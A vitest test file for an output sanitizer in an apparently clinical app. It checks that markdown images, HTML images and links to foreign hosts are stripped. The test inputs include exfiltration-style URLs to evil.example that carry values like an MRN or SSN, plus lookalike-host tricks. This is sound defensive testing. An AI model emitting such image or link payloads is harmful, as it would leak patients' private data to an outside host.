import { describe, expect, it } from 'vitest';
import { sanitizeOutput } from './sanitize.ts';

const ALLOW = ['charta.example.com', '988lifeline.org'];

describe('output sanitizer', () => {
  it.each([
    ['a markdown image to any host', '![x](https://evil.example/p.png?d=MRN123)', '[image removed: x]'],
    ['an image with no alt text', '![](http://evil.example/a)', '[image removed]'],
    [
      'an image on an allowed host too (no silent fetches at all)',
      '![c](https://charta.example.com/i.png)',
      '[image removed: c]',
    ],
    ['an HTML image', 'hi <img src="https://evil.example/x?q=1"> there', 'hi [image removed] there'],
    ['a link to a foreign host, keeping its text', 'see [the form](https://evil.example/f?ssn=1)', 'see the form'],
    ['a bare URL to a foreign host', 'go to https://evil.example/x?data=abc now', 'go to [link removed] now'],
  ])('removes %s', (_, input, expected) => {
    expect(sanitizeOutput(input, ALLOW)).toBe(expected);
  });

  it('keeps links and URLs to allow-listed hosts and their subdomains', () => {
    const text = 'Call 988 or see [988](https://988lifeline.org/help) and https://app.charta.example.com/notes/1';
    expect(sanitizeOutput(text, ALLOW)).toBe(text);
  });

  it('is not fooled by a lookalike host', () => {
    expect(sanitizeOutput('[x](https://charta.example.com.evil.example/)', ALLOW)).toBe('x');
    expect(sanitizeOutput('https://evil-988lifeline.org/', ALLOW)).toBe('[link removed]');
  });

  it('leaves plain text alone', () => {
    expect(sanitizeOutput('PHQ-9 fell from 18 to 9 [asm_abc123].', ALLOW)).toBe(
      'PHQ-9 fell from 18 to 9 [asm_abc123].',
    );
  });
});
